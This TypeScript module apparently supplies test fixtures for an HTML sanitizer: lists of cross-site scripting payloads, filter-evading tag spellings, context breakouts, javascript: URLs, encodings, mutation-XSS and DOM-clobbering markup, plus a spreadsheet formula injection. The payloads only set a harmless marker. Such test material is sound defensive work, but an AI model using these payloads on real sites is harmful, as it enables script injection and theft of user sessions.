/** Every payload sets `window.__ran` or opens a dialog. */
export const CODE = '__ran=1';

/** Elements whose event fires without interaction. */
export const active: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/favicon.ico', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# tabindex=0 autofocus', 'onfocus'],
  ['p', 'contenteditable autofocus', 'onfocusin'],
  ['xss', 'style=animation-name:x', 'onanimationstart'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=/webapp/', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['div', '', 'onpointerenter'],
  ['div', 'style=width:999px;height:999px', 'onmouseover'],
];

/** Spellings of one tag that evade naive filters. */
export const spellings: readonly ((tag: string, attributes: string, event: string) => string)[] = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}=${CODE}>`,
  (tag, attributes, event) =>
    `<${tag.toUpperCase()}/${attributes.replaceAll(' ', '/')}/${event.toUpperCase()}="${CODE}"//`,
];

/** Breaks out of the surrounding element or attribute. */
export const closers = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '</math>',
  '</iframe>',
  '</xmp>',
  '" ',
  "' ",
  '\\">',
  '%22%3E',
  '&quot;&gt;',
];

/** Breaks out of a string or statement in a script, URL or style. */
export const statements = [
  `';${CODE};//`,
  `";${CODE};//`,
  `\`;${CODE};//`,
  `\\';${CODE};//`,
  `'-(${CODE})-'`,
  `"-(${CODE})-"`,
  `\${${CODE}}`,
  `{{${CODE}}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `{{$on.constructor('${CODE}')()}}`,
  `<%= ${CODE} %>`,
  `#{${CODE}}`,
  `*{${CODE}}`,
  `[[\${${CODE}}]]`,
  `{"__proto__":{"${CODE}":1}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CODE}>"}}`,
  `});${CODE};({`,
  `)};${CODE};//`,
  `\u2028${CODE}\u2029`,
  `x:expression(${CODE})`,
  `};*{background:url(javascript:${CODE})}`,
  `@import 'javascript:${CODE}';`,
  `throw onerror=alert,1`,
  "eval('__ra'+'n=1')",
  '=cmd|"/c calc"!A1',
];

export const addresses = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0020javascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `&#106;avascript:${CODE}`,
  `javascript://%0a${CODE}`,
  `javascript:/*--></title>*/${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  `data:image/svg+xml,<svg onload=parent.${CODE}>`,
  `vbscript:${CODE}`,
  `blob:null/${CODE}`,
];

/** Elements that carry a URL. */
export const carriers: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">here</a>`,
  (address) => `[here](${address})`,
  (address) => `<${address}>`,
];
export const carried: readonly string[] = [
  `![here](${addresses[0]})`,
  `[here]: ${addresses[0]}`,
  `[url=${addresses[0]}]here[/url]`,
  `<iframe src="${addresses[0]}">`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<object data="${addresses[0]}">`,
  `<embed src="${addresses[0]}">`,
  `<form action="${addresses[0]}"><button autofocus>go`,
  `<input type=image formaction="${addresses[0]}">`,
  `<math href="${addresses[0]}">here</math>`,
  `<svg><a xlink:href="${addresses[0]}"><text>here`,
  `<svg><use href="${addresses[10]}#x">`,
  `<svg><animate attributeName=href values=${addresses[0]} />`,
  `<base href="${addresses[0]}/">`,
  `<meta http-equiv=refresh content="0;url=${addresses[0]}">`,
  `<link rel=import href="${addresses[9]}">`,
  `<table background="${addresses[0]}">`,
  `<isindex action=${addresses[0]}>`,
];

export const IMAGE = `<img src=x onerror=${CODE}>`;
export const SCRIPT = `<script>${CODE}</script>`;

const percent = (text: string): string =>
  text.replaceAll(/./gsu, (letter) => `%${(letter.codePointAt(0) ?? 0).toString(16)}`);
const each = (text: string, write: (code: number) => string): string =>
  text.replaceAll(/[<>"'=]/g, (letter) => write(letter.codePointAt(0) ?? 0));

/** Encoded markup that runs if it is decoded once too often. */
export const encodings: readonly ((markup: string) => string)[] = [
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (markup) => each(markup, (code) => `&#${code};`),
  (markup) => each(markup, (code) => `&#x${code.toString(16)}`),
  (markup) => each(markup, (code) => `&#${String(code).padStart(7, '0')}`),
  (markup) => percent(markup),
  (markup) => encodeURIComponent(encodeURIComponent(markup)),
  (markup) => each(markup, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (markup) => each(markup, (code) => `\\x${code.toString(16)}`),
  (markup) => each(markup, (code) => String.fromCodePoint(code + 0xfe_e0)),
  (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (markup) => markup.replaceAll('<', '<<').replaceAll('>', '>>'),
  (markup) => markup.replaceAll('<', '\u202e<'),
  (markup) => markup.replaceAll('<', '<\u200b'),
  (markup) => markup.replaceAll(' ', '\t'),
  (markup) => markup.replaceAll(' ', '\n'),
  (markup) => markup.replaceAll('>', ''),
];

/** Script elements, whole and broken. */
export const scripts = [
  SCRIPT,
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script\n>${CODE}</script\n>`,
  `<script/x>${CODE}</script/x>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script type=module>${CODE}</script>`,
  `<script src="data:text/javascript,${CODE}"></script>`,
  `<script>/*</script><script>*/${CODE}</script>`,
  `<svg><script>${CODE}</script>`,
  `<svg><script href="data:text/javascript,${CODE}" />`,
  `<svg><script>&#95;_ran=1</script>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript>${SCRIPT}</noscript>`,
  `<!--><script>${CODE}</script>-->`,
  `<?xml ?>${SCRIPT}`,
  `<![CDATA[${SCRIPT}]]>`,
  `<plaintext>${SCRIPT}`,
];

/** Mutation XSS: markup that changes meaning when serialized and parsed again. */
export const mutations = [
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}-->`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style>`,
  `<svg><title><style>${IMAGE}</style></title>`,
  `<svg><foreignObject>${IMAGE}</foreignObject>`,
  `<select><template>${IMAGE}</template></select>`,
  `<xmp><p title="</xmp>${IMAGE}">`,
  `<a title="</a>${IMAGE}">`,
  `<table><td>${IMAGE}</td>`,
  `<p is=x ${IMAGE}`,
];

/** DOM clobbering: elements that shadow a global name. */
export const clobbering = [
  '<a id=__ran>',
  '<form name=__ran>',
  '<img name=__ran>',
  '<iframe name=__ran>',
  '<a id=__ran><a id=__ran name=x>',
  '<form id=__ran><input name=attributes>',
];
